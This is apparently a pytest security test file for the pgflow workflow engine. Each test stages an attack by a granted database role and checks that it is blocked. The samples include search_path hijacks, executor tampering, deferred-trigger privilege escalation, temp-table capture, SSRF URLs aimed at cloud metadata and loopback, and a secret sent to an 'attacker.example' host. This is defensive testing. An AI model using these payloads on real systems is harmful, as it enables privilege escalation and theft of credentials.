"""Attacks on the worker by a hostile but legitimately granted role (issue 12): each test is the attack,
with real login roles, a real coordinator and a real worker, against a database whose pgflow owner is a
superuser and one whose owner is not (the `site` fixture of conftest.py). The worker runs everyone's steps,
so nothing a step leaves in a session may reach another user's step or pgflow's own statements."""

from __future__ import annotations

import os
import subprocess
import uuid
from http.server import BaseHTTPRequestHandler

import psycopg
import pytest
from conftest import pgflow_command, serve_http, subprocess_env, wait_until
from conftest import run_sql as as_role

import pgflow
from pgflow import tree as t
from pgflow.db.connection import unavailable
from pgflow.health import readiness


def one_worker(site, **env: str):
    """A coordinator and one worker process: every step runs on the same worker session."""
    return site.engine(workers=1, concurrency=1, **env)


def run(node, role_dsn: str, timeout: float = 60):
    return pgflow.wait(pgflow.start(node, dsn=role_dsn), timeout, dsn=role_dsn)


def test_a_steps_search_path_never_reaches_pgflows_statements(site):
    """Bob's step sets the session's search_path to a schema of his (b) whose clock_timestamp() and now()
    record who calls them; pgflow's own statements (run as the pgflow owner) must never call them."""
    bob, names = site.users["bob"], site.names
    as_role(bob, "CREATE TABLE b.calls (who text); GRANT INSERT ON b.calls TO PUBLIC;"
                 "CREATE FUNCTION b.clock_timestamp() RETURNS timestamptz LANGUAGE sql AS"
                 " $$ INSERT INTO b.calls VALUES (current_user); SELECT pg_catalog.clock_timestamp() $$;"
                 "CREATE FUNCTION b.now() RETURNS timestamptz LANGUAGE sql AS"
                 " $$ INSERT INTO b.calls VALUES (current_user); SELECT pg_catalog.now() $$;"
                 "GRANT USAGE ON SCHEMA b TO PUBLIC")
    one_worker(site)
    hijack = "SELECT set_config('search_path', 'b, pg_catalog, public', false) AS path"
    st = run(t.sql(hijack) >> t.sql(hijack) >> "SELECT 1 AS one", bob)
    assert st.status == "completed", st.error
    st = run(t.sql("SELECT 2 AS two") >> "SELECT 3 AS three", site.users["alice"])
    assert st.status == "completed", st.error
    callers = {r[0] for r in as_role(bob, "SELECT who FROM b.calls")}
    assert callers <= {names["bob"]}, callers


def test_a_role_cannot_alter_or_replace_its_own_executor(site):
    """Bob owns his executor (it must run as him), and an owner may ALTER a function: SECURITY INVOKER would
    run his SQL steps as the worker's role. Without USAGE on pgflow_exec he cannot name it, so he can
    neither alter, replace nor drop it (DROP OWNED BY only breaks his own steps)."""
    bob, names = site.users["bob"], site.names
    executor = f'pgflow_exec."{names["bob"]}"'
    for attack in (f"ALTER FUNCTION {executor}(text, jsonb, integer) SECURITY INVOKER",
                   f"ALTER FUNCTION {executor}(text, jsonb, integer, boolean) SECURITY INVOKER",
                   f"CREATE OR REPLACE FUNCTION {executor}(p_sql text, p_params jsonb, p_timeout_ms integer) "
                   "RETURNS SETOF record LANGUAGE sql AS $$ SELECT 1 $$",
                   f"DROP FUNCTION {executor}(text, jsonb, integer)"):
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            as_role(bob, attack)
    assert as_role(site.owner, "SELECT bool_and(prosecdef) FROM pg_proc "
                               "WHERE pronamespace = 'pgflow_exec'::regnamespace AND proname = %s",
                   (names["bob"],)) == [(True,)]


def test_a_deferred_trigger_of_a_step_fires_as_its_owner(site):
    """A deferred constraint trigger fires at commit, after the executor returned: on PostgreSQL 15-17 it ran
    as the worker's role (a superuser could then do anything). The executor fires every deferred trigger
    before it returns, as the step's owner, also after the step set its constraints deferred."""
    bob, names = site.users["bob"], site.names
    as_role(bob, "CREATE TABLE b.fired (who text); CREATE TABLE b.box (v int);"
                 "CREATE FUNCTION b.record() RETURNS trigger LANGUAGE plpgsql AS"
                 " $$ BEGIN INSERT INTO b.fired VALUES (current_user); RETURN NULL; END $$;"
                 "CREATE CONSTRAINT TRIGGER later AFTER INSERT ON b.box DEFERRABLE INITIALLY DEFERRED"
                 " FOR EACH ROW EXECUTE FUNCTION b.record()")
    one_worker(site)
    deferring = "DO $$ BEGIN SET CONSTRAINTS ALL DEFERRED; INSERT INTO b.box VALUES (2); END $$"
    st = run(t.sql("INSERT INTO b.box VALUES (1)") >> t.sql("SELECT v FROM b.box") >> t.sql(deferring), bob)
    fired = as_role(bob, "SELECT who FROM b.fired")
    assert st.status == "completed" and fired == [(names["bob"],)] * 2, (st.status, st.error, fired)


def test_a_temp_table_never_captures_another_users_statement(site):
    """Bob's step creates pg_temp.orders, open to everyone; Alice's later INSERT INTO orders on the same
    worker must go to her table, not his."""
    alice, bob, names = site.users["alice"], site.users["bob"], site.names
    as_role(site.owner, f'CREATE TABLE public.orders (v text); GRANT ALL ON public.orders TO "{names["alice"]}"')
    one_worker(site)
    trap = ("DO $$ BEGIN CREATE TEMP TABLE orders (v text); GRANT ALL ON pg_temp.orders TO PUBLIC; "
            "PERFORM set_config('pgflow_test.trap', 'set', false); END $$")
    st = run(t.sql(trap) >> "SELECT to_regclass('pg_temp.orders')::text AS mine", bob)
    assert st.status == "completed", st.error
    st = run(t.sql("INSERT INTO orders VALUES ('alice') RETURNING v") >> "SELECT count(*) AS n FROM orders",
             alice)
    assert st.status == "completed", st.error
    assert as_role(site.owner, "SELECT v FROM public.orders") == [("alice",)]


def test_a_session_setting_never_changes_another_users_results(site):
    alice, bob = site.users["alice"], site.users["bob"]
    one_worker(site)
    st = run(t.sql("SELECT set_config('DateStyle', 'SQL, DMY', false) AS ds, "
                   "set_config('TimeZone', 'Pacific/Kiritimati', false) AS tz"), bob)
    assert st.status == "completed", st.error
    st = run(t.sql("SELECT '01/02/2026'::date::text AS d, current_setting('TimeZone') AS tz"), alice)
    assert st.status == "completed", st.error
    server_zone = as_role(site.owner, "SELECT current_setting('TimeZone')")[0][0]
    assert st.output == [{"d": "2026-01-02", "tz": server_zone}]


def test_a_session_advisory_lock_is_released_after_the_step(site):
    """A step takes a session-level advisory lock: it must not outlive the step (it would block whoever
    needs that key, e.g. pgflow's maintenance, for as long as the worker lives)."""
    bob = site.users["bob"]
    one_worker(site)
    st = run(t.sql("SELECT pg_advisory_lock(74061120) AS locked"), bob)
    assert st.status == "completed", st.error

    def free() -> bool:
        with psycopg.connect(site.owner, autocommit=True) as conn:
            got = conn.execute("SELECT pg_try_advisory_lock(74061120)").fetchone()[0]
            if got:
                conn.execute("SELECT pg_advisory_unlock(74061120)")
            return got

    wait_until(free, 30, "the step's advisory lock to be released")


def test_void_results_and_one_line_errors_for_granted_users(site):
    """Issue 13: SELECT pg_sleep(0.1) as a granted role works; a failure is one clear line with the
    database's message and SQLSTATE, none of the executor's internals."""
    alice = site.users["alice"]
    as_role(site.owner, f'CREATE TABLE private (v text); CREATE TABLE shared (v text); '
                        f'GRANT ALL ON shared TO "{site.names["alice"]}"')
    one_worker(site)
    st = run(t.sql("SELECT pg_sleep(0.01)") >> "SELECT 1 AS after", alice)
    assert st.status == "completed", st.error
    assert st.output == [{"after": 1}]
    for statement, message, sqlstate in (("SELECT 1/0 AS x", "division by zero", "22012"),
                                         ("SELECT v FROM private", "permission denied", "42501"),
                                         ("SELECT nosuchcolumn FROM shared", "does not exist", "42703")):
        st = run(t.sql(statement), alice)
        assert st.status == "failed"
        assert message in st.error and f"SQLSTATE {sqlstate}" in st.error, st.error
        assert "\n" not in st.error.strip() and "PL/pgSQL" not in st.error and "pgflow_exec" not in st.error, st.error


def test_a_malformed_shape_is_poison_for_its_own_task_only(site):
    """Attack 10: a stored shape with "max_attempts": "x" (registered before shapes were validated, or by
    a hand-made register_flow call) once killed the worker on every delivery, and the other tasks of the
    batch spent their attempts. Now its task fails with the reason and is dead-lettered; the worker's
    processes live on and other users' tasks complete."""
    alice, bob, dsn = site.users["alice"], site.users["bob"], site.owner
    engine = site.new_engine()
    engine.coordinator()
    victim = pgflow.start(t.sql("SELECT 'bob' AS evil"), dsn=bob)
    healthy = [pgflow.start(t.sql(f"SELECT {i} AS n"), dsn=alice) for i in range(3)]
    wait_until(lambda: as_role(dsn, "SELECT count(*) FROM pgmq.q_pgflow")[0][0] == 4, 60, "the four tasks queued")
    as_role(dsn, "UPDATE pgflow.flows f SET shape = jsonb_set(f.shape, '{steps,0,max_attempts}', '\"x\"')"
                 " FROM pgflow.instances i WHERE i.id = %s AND f.flow_name = i.flow_name"
                 " AND f.version = i.flow_version", (victim,))
    worker = engine.worker(concurrency=1)
    [child] = engine.worker_children(worker, 1)
    for iid in healthy:
        st = pgflow.wait(iid, 60, dsn=alice)
        assert st.status == "completed", st.error
    st = pgflow.wait(victim, 60, dsn=bob)
    assert st.status == "failed" and "malformed shape" in st.error and "max_attempts" in st.error, st.error
    reasons = [r[0] for r in as_role(dsn, "SELECT reason FROM pgflow.dead_letters")]
    assert len(reasons) == 1 and "malformed shape" in reasons[0], reasons
    assert as_role(dsn, "SELECT max(attempt) FROM pgflow.steps WHERE instance_id = ANY(%s)", (healthy,)) == [(1,)]
    assert worker.poll() is None and [c.pid for c in engine.worker_children(worker, 1)] == [child.pid]


def test_a_python_node_never_imports_an_untrusted_module(site, tmp_path):
    """Attack 5: a Python node naming a module makes the worker import it before the @task marker is
    checked (side effects, process death). Modules on the worker's path but not trusted (not --import'ed,
    not in PGFLOW_PYTHON_MODULES), and modules in the worker's current directory, are never imported."""
    alice, dsn = site.users["alice"], site.owner
    marker = tmp_path / "imported"
    for name, where in (("evil_on_path", tmp_path / "path"), ("evil_in_cwd", tmp_path / "cwd")):
        where.mkdir()
        (where / f"{name}.py").write_text(f"open({str(marker)!r} + '-{name}', 'w').close()\n"
                                          "def x(ctx):\n    return 'ran'\n")
    engine = site.new_engine()
    engine.env["PYTHONPATH"] = os.pathsep.join([engine.env["PYTHONPATH"], str(tmp_path / "path")])
    engine.coordinator()
    worker = subprocess.Popen(pgflow_command("worker", "--dsn", dsn, "--import", "support.sample_flows",
                                             "--concurrency", "1"),
                              env=engine.env, cwd=tmp_path / "cwd", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    engine.procs.append(worker)
    for ref in ("evil_on_path:x", "evil_in_cwd:x", "venv.__main__:x", "this.is.not:there"):
        st = run(t.python(ref), alice)
        assert st.status == "failed" and "is not trusted by this worker" in st.error, (ref, st.error)
    assert not list(tmp_path.glob("imported*")), "an untrusted module was imported"
    # trusted code still runs: the --import module's marked functions, and PGFLOW_PYTHON_MODULES ones
    st = pgflow.wait(pgflow.start(t.python("support.sample_trees:greet"), {"who": "alice"}, dsn=alice), 60, dsn=alice)
    assert st.status == "completed" and st.output.startswith("hello, alice"), st.error
    assert worker.poll() is None


@pytest.fixture
def web():
    """A local web server recording what reaches it (path, Authorization header)."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            seen.append((self.path, self.headers.get("Authorization"), self.headers.get("Host")))
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

    with serve_http(Handler) as url:
        yield url, seen


def test_http_steps_reach_no_internal_address_by_default(site, web):
    """Attack 7: with no allow-list (the default), metadata through an IPv4-mapped address, 192.0.0.192,
    loopback (the tests' own web server) and bare IPs are refused before any connection; each attempt is in
    the audit trail, which its owner reads and other users do not."""
    url, seen = web
    alice, bob, names = site.users["alice"], site.users["bob"], site.names
    one_worker(site)
    port = url.rsplit(":", 1)[1]
    for target in ("http://[::ffff:169.254.169.254]/latest/meta-data/", "http://192.0.0.192/",
                   f"{url}/x", f"http://localhost:{port}/x", f"http://[::ffff:127.0.0.1]:{port}/x",
                   f"http://2130706433:{port}/x"):
        st = run(t.http(target), alice)
        assert st.status == "failed" and "EgressDenied" in st.error, (target, st.error)
    assert seen == []
    audit = as_role(alice, "SELECT owner, method, host, status, error FROM pgflow.http_audit ORDER BY id")
    assert len(audit) == 6 and {r[0] for r in audit} == {names["alice"]}
    assert all(r[1] == "GET" and r[3] is None and "EgressDenied" in r[4] for r in audit), audit
    assert as_role(bob, "SELECT count(*) FROM pgflow.http_audit") == [(0,)]


def test_secrets_are_granted_by_an_administrator_and_checked_when_the_step_runs(site, web):
    """Attack 6: a user could point its own secrets at env:PGFLOW_DSN or file:/etc/passwd and send them
    anywhere. Now only secrets an administrator granted the owner exist; a reference stored before (in
    variables) is ignored; a secret in a host name is refused and never stored, whatever its case."""
    url, seen = web
    alice, bob, names, dsn = site.users["alice"], site.users["bob"], site.names, site.owner
    token = "Tok-" + uuid.uuid4().hex
    as_role(dsn, "SELECT pgflow.grant_secret(%s, 'token', 'env:PGFLOW_TEST_TOKEN')", (names["alice"],))
    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => true)", (names["bob"],))
    # what set_secret used to store: bob's own reference to the worker's environment
    as_role(dsn, "INSERT INTO pgflow.variables (owner, name, value, secret_ref) VALUES (%s, 'dsn', NULL, "
                 "'env:PGFLOW_TEST_TOKEN')", (names["bob"],))
    one_worker(site, PGFLOW_TEST_TOKEN=token, PGFLOW_HTTP_ALLOW="127.0.0.1")
    st = run(t.http(f"{url}/ok", headers={"Authorization": "Bearer $secrets.token"}), alice)
    assert st.status == "completed", st.error
    assert seen == [("/ok", f"Bearer {token}", url.removeprefix("http://"))]
    for role, secret in ((bob, "dsn"), (bob, "token")):
        st = run(t.http(f"{url}/steal", headers={"Authorization": f"$secrets.{secret}"}), role)
        assert st.status == "failed" and "no key" in st.error and secret in st.error, st.error
    assert len(seen) == 1, seen
    st = run(t.http("http://a-$secrets.token-b.attacker.example/x"), alice)
    assert st.status == "failed" and "secret may not be part of a URL's host name" in st.error, st.error
    stored = as_role(dsn, "SELECT concat((SELECT string_agg(t::text, '') FROM pgflow.steps t),"
                          " (SELECT string_agg(t::text, '') FROM pgflow.instances t),"
                          " (SELECT string_agg(t::text, '') FROM pgflow.http_audit t))")[0][0]
    assert token.lower() not in stored.lower()


def test_rights_are_checked_when_the_step_runs_not_only_at_start(site, web):
    """Attack 4: rights were checked only when an instance started. An HTTP right taken back, or the usage
    revoked, while an instance waits: its next step is refused with one clear line."""
    url, seen = web
    bob, names, dsn = site.users["bob"], site.names, site.owner
    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => true)", (names["bob"],))
    one_worker(site, PGFLOW_HTTP_ALLOW="127.0.0.1")
    http_iid = pgflow.start(t.wait_for_signal("go") >> t.http(f"{url}/later"), dsn=bob)
    sql_iid = pgflow.start(t.wait_for_signal("go") >> "SELECT 1 AS one", dsn=site.users["alice"])
    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => false)", (names["bob"],))
    pgflow.signal(http_iid, "go", dsn=bob)
    st = pgflow.wait(http_iid, 60, dsn=bob)
    assert st.status == "failed" and "refused when the step ran" in st.error
    assert "does not have EXECUTE privilege for HTTP" in st.error
    assert "\n" not in st.error.strip() and seen == []
    as_role(dsn, "SELECT pgflow.revoke_usage(%s)", (names["alice"],))
    as_role(dsn, "SELECT pgflow.signal(%s, 'go')", (sql_iid,))
    wait_until(lambda: as_role(dsn, "SELECT status FROM pgflow.instances WHERE id = %s", (sql_iid,))[0][0]
               == "failed", 60, "the revoked owner's step to be refused")
    error = as_role(dsn, "SELECT error FROM pgflow.instances WHERE id = %s", (sql_iid,))[0][0]
    assert "refused when the step ran" in error and "no longer granted" in error, error


def test_readyz_never_shows_a_password_with_an_at_sign():
    """Attack 8 (the forms not covered by test_observability): a URL password holding a raw "@" is cut by
    libpq at the first one, and the rest became part of the host name that /readyz (and every "cannot
    connect" error) printed. The parsed host is what libpq names in its error."""
    dsn = "postgresql://u:Se@cr3t-Pw@127.0.0.1:1/db"
    parsed_host = psycopg.conninfo.conninfo_to_dict(dsn)["host"]
    assert "cr3t" in parsed_host  # the attack's premise: the password leaks into the host
    error = str(unavailable(dsn, psycopg.OperationalError(f"failed to resolve host '{parsed_host}'")))
    assert "cr3t" not in error and "Se@" not in error, error
    for dsn in ("host=127.0.0.1 port=1 password=Se@cr3t-Pw", "postgresql://u@127.0.0.1:1/db?password=Se@cr3t-Pw",
                "postgresql://u:Se%40cr3t-Pw@127.0.0.1:1/db"):
        ok, why = readiness(dsn)()
        assert not ok and "cr3t" not in why, why


@pytest.mark.parametrize("args, message", [
    (["--dsn", "not-a-dsn"], "not a PostgreSQL connection string"),
    (["--dsn", "host=127.0.0.1 password=Se3cret port"], "not a PostgreSQL connection string"),
    (["--concurrency", "0"], "--concurrency"), (["--concurrency", "x"], "--concurrency"),
    (["--batch-size", "-1"], "--batch-size"), (["--visibility-timeout", "99999999999"], "--visibility-timeout"),
    (["--drain-timeout", "-5"], "--drain-timeout"), (["--metrics-port", "70000"], "--metrics-port"),
    (["--queue", "Upper"], "--queue"), (["--queue", ""], "--queue"),
])
def test_worker_options_are_validated_in_one_line(args, message):
    """Operator input: a bad value is one clear line naming the option (exit 2), never a traceback, and
    never echoes a password."""
    out = subprocess.run(pgflow_command("worker", *args), capture_output=True, text=True, timeout=60,
                         env=subprocess_env())
    assert out.returncode == 2, out.stdout + out.stderr
    assert message in out.stderr and "Traceback" not in out.stderr and "Se3cret" not in out.stderr, out.stderr
